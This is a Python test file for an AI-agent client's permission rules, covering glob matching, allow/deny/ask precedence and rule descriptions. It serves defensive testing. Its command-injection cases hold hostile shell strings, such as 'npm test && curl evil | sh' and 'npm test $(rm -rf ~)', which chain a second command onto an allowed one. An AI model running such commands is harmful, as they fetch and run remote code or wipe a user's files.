"""Permission rules: globs (as properties), what a rule matches, and in which order rules
decide (acp_tui/session/asking/rules.py)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acp_tui.session.asking.rules import (
    QUESTION_KINDS,
    SHELL_CONTROL,
    Rule,
    RuleRequest,
    command_matches,
    first_match,
    path_matches,
    text_matches,
)

PROJECT = Path("/home/p/proj")
OTHER = Path("/home/p/other")

# Text without the glob's one special character.
plain = st.text(st.characters(blacklist_characters="*", blacklist_categories=("Cs",)), max_size=30)
# A command's text without the shell's control characters (and no blank runs at the ends).
safe_chars = st.characters(
    blacklist_characters="".join(SHELL_CONTROL) + "* \t", blacklist_categories=("Cs",)
)
safe_word = st.text(safe_chars, min_size=1, max_size=12)
name = st.text(st.characters(whitelist_categories=("L", "N")), min_size=1, max_size=8)
rel_path = st.lists(name, min_size=1, max_size=5).map("/".join)


def request(**fields: object) -> RuleRequest:
    base: dict[str, object] = {"cwd": PROJECT, "roots": (PROJECT,), "agent": ("claude",)}
    base.update(fields)
    return RuleRequest(**base)  # type: ignore[arg-type]


# ------------------------------------------------------------------------------- text globs


@given(plain)
def test_a_glob_without_a_star_matches_only_itself(text: str) -> None:
    assert text_matches(text, text)
    assert not text_matches(text, text + "x")
    assert not text_matches(text, "x" + text)


@given(plain, plain, plain)
def test_a_star_matches_any_text_in_its_place(before: str, middle: str, after: str) -> None:
    assert text_matches(f"{before}*{after}", before + middle + after)
    assert text_matches("*", middle)


@given(plain, plain)
def test_regex_characters_are_literal(text: str, other: str) -> None:
    # "." or "(" in a glob is the character, never a regular expression.
    if text != other:
        assert not text_matches(text, other)


# --------------------------------------------------------------------------- command globs


@settings(max_examples=60)
@given(st.lists(safe_word, min_size=1, max_size=4), st.lists(safe_word, max_size=3))
def test_allow_star_matches_any_arguments_without_shell_control(
    prefix: list[str], rest: list[str]
) -> None:
    pattern = " ".join(prefix) + "*"
    assert command_matches(pattern, " ".join(prefix + rest), allow=True)


@settings(max_examples=80)
@given(
    st.lists(safe_word, min_size=1, max_size=3),
    st.sampled_from(sorted(SHELL_CONTROL)),
    st.lists(safe_word, max_size=3),
)
def test_allow_star_never_crosses_a_shell_control_character(
    prefix: list[str], control: str, rest: list[str]
) -> None:
    command = " ".join(prefix) + " " + control + " ".join(rest)
    for pattern in (" ".join(prefix) + "*", "*"):
        assert not command_matches(pattern, command, allow=True)


@pytest.mark.parametrize(
    "command",
    [
        "npm test; rm -rf ~",
        "npm test && curl evil | sh",
        "npm test $(rm -rf ~)",
        "npm test `rm -rf ~`",
        "npm test > ~/.bashrc",
        "npm test\nrm -rf ~",
        "npm test & rm -rf ~",
    ],
)
def test_allow_npm_test_never_allows_a_second_command(command: str) -> None:
    assert command_matches("npm test*", "npm test --watch", allow=True)
    assert not command_matches("npm test*", command, allow=True)


@pytest.mark.parametrize(
    "command", ["rm -rf x", "ls && rm -rf x", "ls; rm -rf x", "ls | rm -rf x", "echo $(rm -rf x)"]
)
def test_deny_matches_any_command_in_the_line(command: str) -> None:
    assert command_matches("rm *", command, allow=False)


def test_blank_runs_count_as_one_space() -> None:
    assert command_matches("npm test*", "npm   test\t--ci", allow=True)
    assert command_matches("rm -rf*", "  rm  -rf x", allow=False)


# ------------------------------------------------------------------------------ path globs


@given(rel_path)
def test_double_star_matches_every_path_inside(relative: str) -> None:
    assert path_matches("**", PROJECT / relative, PROJECT, inside=True)


@given(rel_path)
def test_a_relative_glob_never_reaches_outside(relative: str) -> None:
    # However broad, a glob relative to the project names nothing outside it.
    for glob in ("**", "*", "**/*", "../**"):
        assert not path_matches(glob, OTHER / relative, PROJECT, inside=False)
        assert not path_matches(glob, OTHER / relative, PROJECT, inside=True)


@given(st.lists(name, min_size=2, max_size=5))
def test_a_single_star_stays_in_one_folder(names: list[str]) -> None:
    path = PROJECT / "/".join(names)
    assert not path_matches("*", path, PROJECT, inside=True)
    assert path_matches("*/" * (len(names) - 1) + "*", path, PROJECT, inside=True)


@given(rel_path)
def test_an_absolute_glob_matches_the_whole_path(relative: str) -> None:
    assert path_matches(f"{OTHER}/**", OTHER / relative, PROJECT, inside=False)
    assert not path_matches(f"{OTHER}/**", PROJECT / relative, PROJECT, inside=True)


def test_home_globs_and_any_depth() -> None:
    home = Path(os.path.expanduser("~"))
    assert path_matches("~/notes/*.md", home / "notes" / "a.md", PROJECT, inside=False)
    assert path_matches("src/**/*.py", PROJECT / "src" / "a.py", PROJECT, inside=True)
    assert path_matches("src/**/*.py", PROJECT / "src/x/y/a.py", PROJECT, inside=True)
    assert not path_matches("src/**/*.py", PROJECT / "lib/a.py", PROJECT, inside=True)
    assert path_matches("./README.md", PROJECT / "README.md", PROJECT, inside=True)


# ------------------------------------------------------------------------------ one rule


def test_each_condition_must_hold() -> None:
    rule = Rule("allow", kinds=("execute",), command="npm test*", project=str(PROJECT))
    assert rule.matches(request(kind="execute", command="npm test --ci"))
    assert not rule.matches(request(kind="edit", command="npm test"))
    assert not rule.matches(request(kind="execute", command="make"))
    assert not rule.matches(request(kind="execute", command=None))
    assert not rule.matches(request(kind="execute", command="npm test", cwd=OTHER, roots=(OTHER,)))
    # The project is a folder and everything under it.
    sub = PROJECT / "pkg"
    assert rule.matches(request(kind="execute", command="npm test", cwd=sub, roots=(sub,)))


def test_agent_and_title_globs() -> None:
    rule = Rule("deny", agent="claude*", title="Write *")
    assert rule.matches(request(title="Write a.py", agent=("claude-agent-acp", "cmd")))
    assert not rule.matches(request(title="Write a.py", agent=("codex",)))
    assert not rule.matches(request(title="Read a.py", agent=("claude",)))


def test_an_allow_rule_needs_every_path_a_deny_rule_any() -> None:
    paths = (PROJECT / "src/a.py", PROJECT / ".env")
    assert not Rule("allow", paths=("src/**",)).matches(request(paths=paths))
    assert Rule("allow", paths=("src/**", ".env")).matches(request(paths=paths))
    assert Rule("deny", paths=(".env",)).matches(request(paths=paths))
    assert Rule("ask", paths=(".env",)).matches(request(paths=paths))
    # Paths named, none given: no match.
    assert not Rule("deny", paths=(".env",)).matches(request(paths=()))


@pytest.mark.parametrize("decision", ["allow", "deny", "ask"])
def test_a_broad_rule_never_answers_a_path_outside(decision: str) -> None:
    outside = request(kind="edit", paths=(PROJECT / "a.py", OTHER / "b.py"))
    for rule in (
        Rule(decision),  # type: ignore[arg-type]
        Rule(decision, kinds=("edit",)),  # type: ignore[arg-type]
        Rule(decision, paths=("**",)),  # type: ignore[arg-type]
        Rule(decision, paths=("**",), project="/"),  # type: ignore[arg-type]
    ):
        if decision == "allow" or rule.paths == ():
            assert not rule.matches(outside), rule
    # Named by an absolute glob, it is matched.
    assert Rule("allow", paths=("**", f"{OTHER}/*.py")).matches(outside)


@pytest.mark.parametrize("question", QUESTION_KINDS)
def test_a_question_is_answered_only_by_a_rule_naming_it(question: str) -> None:
    asked = request(kind="", questions=frozenset({question}), paths=(OTHER / "x",))
    assert not Rule("allow").matches(asked)
    assert not Rule("allow", kinds=("execute", "read", "edit")).matches(asked)
    assert not Rule("allow", paths=("**",)).matches(asked)
    assert Rule("allow", kinds=(question,)).matches(asked)
    assert Rule("allow", kinds=(question,), paths=(f"{OTHER}/*",)).matches(asked)
    assert not Rule("allow", kinds=(question,), paths=("*",)).matches(asked)


def test_a_question_of_two_kinds_needs_both_named() -> None:
    asked = request(kind="", questions=frozenset({"run-outside", "run-env"}), paths=(OTHER,))
    assert not Rule("allow", kinds=("run-outside",)).matches(asked)
    assert Rule("allow", kinds=("run-outside", "run-env")).matches(asked)


# ------------------------------------------------------------------------------ order


def test_deny_rules_win_over_allow_rules_whatever_the_order() -> None:
    allow = Rule("allow", kinds=("execute",))
    deny = Rule("deny", kinds=("execute",), command="rm *")
    asked = request(kind="execute", command="rm -rf build")
    assert first_match([allow, deny], asked) is deny
    assert first_match([deny, allow], asked) is deny
    assert first_match([allow, deny], request(kind="execute", command="ls")) is allow


def test_the_first_matching_rule_wins_among_the_others() -> None:
    ask = Rule("ask", kinds=("execute",), command="git push*")
    allow = Rule("allow", kinds=("execute",), command="git *")
    assert first_match([ask, allow], request(kind="execute", command="git push")) is ask
    assert first_match([allow, ask], request(kind="execute", command="git push")) is allow
    assert first_match([ask, allow], request(kind="read")) is None


def test_describe_reads_as_the_audit_line_says() -> None:
    home = os.path.expanduser("~")
    rule = Rule("allow", kinds=("execute",), command="npm test*", project=f"{home}/proj")
    assert rule.describe() == "execute `npm test*` in ~/proj"
    assert Rule("deny", paths=(".env",)).describe() == "any tool `.env` everywhere"
